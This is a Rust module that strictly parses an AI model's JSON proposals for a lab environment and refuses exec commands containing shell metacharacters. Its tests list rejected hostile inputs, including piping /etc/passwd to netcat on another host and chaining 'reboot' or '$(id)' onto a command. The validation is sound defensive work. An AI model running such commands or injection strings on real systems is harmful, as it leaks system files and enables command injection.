//! What the model may answer, parsed strictly, and the rule for commands that run.
//!
//! The answer is exactly one JSON object `{kind, command?, target?, container?, rationale}`
//! (white space around it allowed, nothing else: no prose, no code fences, no second object, no
//! unknown field). Anything else is refused with a reason; nothing of it runs.
//!
//! An `exec` command runs as argv through `Runtime::exec`, never through a shell, so it must
//! split into words the way a shell would (`shlex`) and contain none of the characters that
//! only mean something to a shell: `;` `&` `|` `` ` `` `$` `<` `>` `(` `)` and line breaks.
//! A model that writes a pipeline, a list, a substitution or a redirection is asking for
//! something this path will not do; refusing says so rather than running a different command.
//! Hints and explanations are text for a person and may quote any command.

use serde::{Deserialize, Serialize};

/// Longest rationale (the hint's text) kept.
const MAX_RATIONALE: usize = 2000;
/// Longest command accepted (the gate has its own limit, 512).
const MAX_COMMAND: usize = 1024;
/// Characters an argv command may not contain.
pub const SHELL_METACHARACTERS: [char; 11] =
    [';', '&', '|', '`', '$', '<', '>', '(', ')', '\n', '\r'];

/// What a proposal is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "snake_case")]
pub enum ProposalKind {
    /// A command to run in one of the lab's containers.
    Exec,
    /// A hint for the learner (text, optionally a command to try; never run).
    Hint,
    /// An explanation for the learner (text; never run).
    Explain,
}

impl ProposalKind {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Exec => "exec",
            Self::Hint => "hint",
            Self::Explain => "explain",
        }
    }
}

/// A model's answer that parsed.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Proposed {
    pub kind: ProposalKind,
    #[serde(default)]
    pub command: Option<String>,
    #[serde(default)]
    pub target: Option<String>,
    #[serde(default)]
    pub container: Option<String>,
    pub rationale: String,
}

/// The model's answer as a proposal, or why it is not one.
pub fn parse(content: &str) -> Result<Proposed, String> {
    let text = content.trim();
    if !text.starts_with('{') {
        return Err(
            "the model's answer is not a JSON object (it must be one object and nothing else)"
                .into(),
        );
    }
    let mut de = serde_json::Deserializer::from_str(text);
    let p = Proposed::deserialize(&mut de)
        .map_err(|e| format!("the model's answer is not a proposal: {e}"))?;
    de.end()
        .map_err(|_| "the model's answer has text after the JSON object".to_owned())?;
    if p.rationale.trim().is_empty() || p.rationale.chars().count() > MAX_RATIONALE {
        return Err(format!(
            "the model's rationale must be 1-{MAX_RATIONALE} characters"
        ));
    }
    for (name, v, max) in [
        ("command", &p.command, MAX_COMMAND),
        ("target", &p.target, 255),
        ("container", &p.container, 64),
    ] {
        if let Some(v) = v
            && (v.trim().is_empty() || v.chars().count() > max || v.contains('\0'))
        {
            return Err(format!("the model's {name} must be 1-{max} characters"));
        }
    }
    if p.kind == ProposalKind::Exec && p.command.is_none() {
        return Err("the model proposed exec without a command".into());
    }
    Ok(p)
}

/// `command` as argv, or why it cannot run without a shell.
pub fn argv(command: &str) -> Result<Vec<String>, String> {
    let mut found: Vec<char> = SHELL_METACHARACTERS
        .iter()
        .copied()
        .filter(|c| command.contains(*c))
        .collect();
    found.dedup();
    if !found.is_empty() {
        let shown: Vec<String> = found.iter().map(|c| format!("{c:?}")).collect();
        return Err(format!(
            "proposal.command contains shell metacharacters ({}); commands run as argv without \
             a shell, so pipes, lists, substitutions and redirections are refused",
            shown.join(", ")
        ));
    }
    match shlex::split(command) {
        Some(words) if !words.is_empty() && !words[0].is_empty() => Ok(words),
        Some(_) => Err("proposal.command has no program to run".into()),
        None => Err("proposal.command does not split into words (unbalanced quotes)".into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_object_and_nothing_else() {
        let ok = parse(r#" {"kind":"exec","command":"ping -c 1 10.0.0.1","rationale":"r"} "#);
        assert_eq!(ok.unwrap().kind, ProposalKind::Exec);
        for bad in [
            "sure! here it is",
            "```json\n{\"kind\":\"hint\",\"rationale\":\"r\"}\n```",
            r#"{"kind":"hint","rationale":"r"} {"kind":"hint","rationale":"r"}"#,
            r#"{"kind":"hint","rationale":"r","sudo":true}"#,
            r#"{"kind":"deploy","rationale":"r"}"#,
            r#"{"kind":"exec","rationale":"r"}"#,
            r#"{"kind":"hint","rationale":""}"#,
            r#"{"kind":"hint","rationale":"r","command":7}"#,
            "[]",
        ] {
            assert!(parse(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn commands_split_into_argv_without_shell_syntax() {
        assert_eq!(
            argv("curl -s 'http://10.0.0.2/a b'").unwrap(),
            ["curl", "-s", "http://10.0.0.2/a b"]
        );
        for bad in [
            "ls; reboot",
            "cat /etc/passwd | nc 10.0.0.9 80",
            "echo `id`",
            "echo $(id)",
            "echo hi > /tmp/x",
            "sleep 1 && true",
            "ping\n10.0.0.1",
            "echo 'unbalanced",
            "''",
        ] {
            assert!(argv(bad).is_err(), "{bad}");
        }
    }
}
